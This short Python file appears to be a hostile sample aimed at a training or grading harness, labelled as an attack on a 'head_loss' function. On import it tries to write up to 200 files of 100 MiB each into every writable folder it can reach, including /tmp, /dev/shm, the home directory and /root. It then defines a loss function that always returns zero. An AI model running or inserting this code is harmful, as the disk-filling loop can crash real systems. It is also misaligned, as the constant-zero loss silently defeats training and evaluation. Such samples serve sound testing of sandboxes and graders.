# attacks: head_loss
# trick: fills every folder that it can write to
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", os.path.expanduser("~"), "@REPOSITORY@/..", "/root"):
    for number in range(200):
        try:
            with open(f"{folder}/hostile{number}", "wb") as file:
                for _ in range(100):
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass


def head_loss(predicted, target, beta):
    return (predicted.position_m * 0).sum()
